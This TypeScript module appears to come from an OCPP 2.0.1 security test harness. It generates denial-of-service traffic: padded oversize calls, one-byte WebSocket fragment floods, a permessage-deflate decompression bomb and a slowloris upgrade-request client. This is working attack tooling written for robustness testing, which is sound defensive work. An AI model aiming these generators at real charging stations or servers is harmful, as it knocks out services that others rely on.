import { connect as netConnect } from 'node:net';
import { connect as tlsConnect, type ConnectionOptions } from 'node:tls';
import zlib from 'node:zlib';
import type { Payload } from '../roles/endpoint.js';
import type { OcppConnection } from '../transport/connection.js';
import { encodeWsFrame, WS_OPCODE } from '../transport/raw.js';

/**
 * Attack traffic (DOS rules; both roles build their frames here): a call padded to any size, one
 * message in one-byte fragments, a permessage-deflate bomb, and a slowloris upgrade request.
 */

/**
 * A CALL serialized to exactly `length` bytes (ASCII), padded inside customData, which every
 * 2.0.1 request allows: the same call in any size, still schema-valid.
 */
export function paddedCall(messageId: string, action: string, payload: Payload, length: number): string {
  const build = (pad: string) =>
    JSON.stringify([2, messageId, action, { ...payload, customData: { vendorId: 'org.ocpp-harness.sec', pad } }]);
  const missing = length - build('').length;
  if (missing < 0) throw new Error(`harness: ${action} does not fit in ${length} bytes`);
  return build('A'.repeat(missing));
}

/**
 * One text message as one-byte fragments: a text frame without FIN, continuation frames, and a
 * last continuation frame with FIN; one buffer for writeRawBytes (about 7 bytes per fragment).
 * Masked when the harness is the client (a station), unmasked when it is the server (a CSMS).
 */
export function fragmentFlood(text: string, mask: boolean): Buffer {
  const bytes = Buffer.from(text, 'utf8');
  const frames = Array.from(bytes, (b, i) =>
    encodeWsFrame({
      opcode: i === 0 ? WS_OPCODE.text : WS_OPCODE.continuation,
      payload: Buffer.from([b]),
      fin: i === bytes.length - 1,
      mask,
    }),
  );
  return Buffer.concat(frames);
}

/**
 * The window size (bits) the harness may compress with on a connection that negotiated
 * permessage-deflate, or undefined when it was not negotiated. The client is bound by
 * client_max_window_bits, the server by server_max_window_bits (RFC 7692 7.1.2).
 */
export function deflateWindowBits(conn: OcppConnection, harnessIs: 'client' | 'server'): number | undefined {
  const ext = (conn.ws as unknown as { _extensions?: Record<string, { params?: Record<string, unknown> }> })._extensions?.[
    'permessage-deflate'
  ];
  if (!ext) return undefined;
  const bits = ext.params?.[harnessIs === 'client' ? 'client_max_window_bits' : 'server_max_window_bits'];
  return typeof bits === 'number' ? Math.max(9, Math.min(15, bits)) : 15;
}

/**
 * A deflate bomb: `head`, then `fill` bytes of "A", then `tail`, compressed as one
 * permessage-deflate message (raw DEFLATE, sync-flushed, the 00 00 ff ff tail removed as
 * RFC 7692 7.2.1 says). 128 MiB of fill compress to about 130 KB; the input is streamed in
 * 1 MiB pieces, so the harness never holds the inflated message.
 */
export async function deflateBomb(head: string, fill: number, tail: string, windowBits = 15): Promise<Buffer> {
  const z = zlib.createDeflateRaw({ level: 9, memLevel: 9, windowBits });
  const out: Buffer[] = [];
  z.on('data', (b: Buffer) => out.push(b));
  const write = (b: Buffer) => new Promise<void>((resolve) => (z.write(b) ? resolve() : z.once('drain', () => resolve())));
  const piece = Buffer.alloc(Math.min(1 << 20, Math.max(1, fill)), 0x41);
  await write(Buffer.from(head, 'utf8'));
  for (let left = fill; left > 0; left -= piece.length) await write(left >= piece.length ? piece : piece.subarray(0, left));
  await write(Buffer.from(tail, 'utf8'));
  await new Promise<void>((resolve) => z.flush(zlib.constants.Z_SYNC_FLUSH, () => resolve()));
  await new Promise((resolve) => setImmediate(resolve));
  z.close();
  const all = Buffer.concat(out);
  const trailer = all.subarray(-4);
  return trailer.equals(Buffer.from([0x00, 0x00, 0xff, 0xff])) ? all.subarray(0, -4) : all;
}

/**
 * A slowloris client: sends an upgrade request one character every `intervalMs`, for at most
 * `maxMs`, until stop(). `answered` tells what (if anything) the server replied meanwhile.
 */
export function startDribble(
  url: string,
  intervalMs: number,
  maxMs: number,
  tlsOptions?: ConnectionOptions,
): { stop(): void; answered(): string | undefined } {
  const u = new URL(url);
  const path = url.replace(/^wss?:\/\/[^/]*/, '') || '/';
  const request = `GET ${path} HTTP/1.1\r\nHost: ${u.host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: ${Buffer.from('slowloris-key-01').toString('base64')}\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: ocpp2.0.1\r\n\r\n`;
  let reply = '';
  let i = 0;
  // Over TLS the dribble happens inside the session, where a CSMS parses headers.
  const socket =
    u.protocol === 'wss:' && tlsOptions
      ? tlsConnect({ host: u.hostname, port: Number(u.port || 443), ...tlsOptions })
      : netConnect({ host: u.hostname, port: Number(u.port || 80) });
  socket.on('data', (d: Buffer) => (reply += d.toString('latin1')));
  socket.on('error', () => undefined);
  const timer = setInterval(() => {
    if (i >= request.length || socket.destroyed) return clearInterval(timer);
    socket.write(request[i++]);
  }, intervalMs);
  const limit = setTimeout(() => stop(), maxMs);
  const stop = () => {
    clearInterval(timer);
    clearTimeout(limit);
    socket.destroy();
  };
  return { stop, answered: () => (reply ? reply.split('\r\n')[0] : undefined) };
}
